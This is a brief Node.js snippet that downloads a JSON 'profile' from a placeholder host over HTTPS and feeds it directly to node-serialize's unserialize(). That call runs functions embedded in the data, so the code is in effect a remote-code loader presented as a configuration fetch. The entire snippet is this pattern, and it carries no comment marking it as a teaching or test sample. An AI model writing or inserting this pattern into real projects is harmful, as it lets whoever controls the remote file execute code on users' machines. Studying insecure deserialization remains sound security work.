const https = require('https');
const { unserialize } = require('node-serialize');
function pull(u) {
  return new Promise((ok) => https.get(u, (r) => { let b = ''; r.on('data', (d) => (b += d)); r.on('end', () => ok(b)); }));
}
pull('https://cfg.yamlsync.example/profile.json').then((text) => unserialize(text));
